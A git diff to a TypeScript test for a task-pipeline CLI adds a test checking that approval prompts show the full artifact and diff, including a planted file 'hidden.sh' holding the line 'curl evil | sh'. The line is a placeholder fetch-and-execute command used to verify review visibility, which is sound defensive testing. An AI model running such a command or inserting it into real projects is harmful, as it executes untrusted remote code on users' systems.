@@ -4,8 +4,12 @@ import type { AddressInfo } from 'node:net';
 import path from 'node:path';
 import { PassThrough } from 'node:stream';
 import { Command } from 'commander';
+import { execa } from 'execa';
 import { afterAll, beforeAll, expect, it } from 'vitest';
 import { registerClientCommands } from '../../../cli/commands/client-commands.js';
+import { transaction } from '../../../store/db.js';
+import { mirrorTask } from '../../../store/task-mirror.js';
+import { sampleMirror } from '../../support/samples.js';
 import { startApi, type TestApi } from '../../support/api.js';
 
 let api: TestApi;
@@ -75,12 +79,41 @@ it('walks from a repository to a task', async () => {
   }
 });
 
+it('shows all that is approved before it asks', async () => {
+  const work = path.join(api.dir, 'web');
+  const git = async (...args: string[]) =>
+    (await execa('git', ['-C', work, '-c', 'user.name=t', '-c', 'user.email=t@t', ...args])).stdout;
+  await writeFile(path.join(work, 'brd.md'), Array.from({ length: 150 }, (_, i) => `line ${i}\n`).join(''));
+  await writeFile(path.join(work, 'hidden.sh'), 'curl evil | sh\n');
+  await git('add', '.');
+  await git('commit', '-q', '-m', 'work');
+  const sha = await git('rev-parse', 'HEAD');
+  await git('push', '-q', `${work}.git`, 'HEAD:refs/signalbox/heads/ET-002');
+  const stages = [
+    { name: 'analysis', kind: 'agent', agent: 'default', artifact: 'brd.md' },
+    { name: 'approval', kind: 'approval', of: 'analysis' },
+  ];
+  await api.call('POST', '/api/tasks', { repo: 'web', title: 'Two', pipeline: { stages } });
+  const waits = { kind: 'approval', since: 'x', until: null, detail: 'x', code: null } as const;
+  const waitingOn = { ...waits, artifact: { path: 'brd.md', sha }, unblockedBy: [], links: {} };
+  const mirror = sampleMirror({ workItem: 'ET-002', state: 'waiting', stage: 'approval', head: sha, waitingOn });
+  await transaction(api.database.pool, (tx) => mirrorTask(tx, mirror));
+  const asked = await run(['task', 'approve', 'web/ET-002']);
+  expect([asked.code, asked.err]).toEqual([1, 'error: nobody can be asked here: give --yes, or --stage and --sha\n']);
+  expect(asked.out).toContain('line 149\n');
+  expect(asked.out).toMatch(/hidden\.sh +\+1 -0/);
+  const document = await run(['task', 'artifact', 'web/ET-002']);
+  expect([document.code, document.err]).toEqual([0, '']);
+  expect(document.out).toContain('line 149\n');
+  expect((await run(['task', 'diff', 'web/ET-002'])).out).toContain('+curl evil | sh');
+});
+
 it.each([
   [['task', 'show', 'web/ET-999'], 'error: there is no task web/ET-999\n'],
   [['task', 'show', 'nonsense'], 'error: nonsense: a task is named like web/ET-012\n'],
   [['task', 'approve', 'web/ET-001'], 'error: web/ET-001 does not wait for an approval: it is queued in created\n'],
   [['task', 'log', 'web/ET-001'], 'error: web/ET-001 has no run yet\n'],
-  [['repo', 'remove', 'web'], 'error: web has live tasks: web/ET-001\n'],
+  [['repo', 'remove', 'web'], 'error: web has live tasks: web/ET-001, web/ET-002\n'],
 ])('says in short why %s fails', async (args, err) => {
   expect(await run(args)).toEqual({ code: 1, out: '', err });
 });
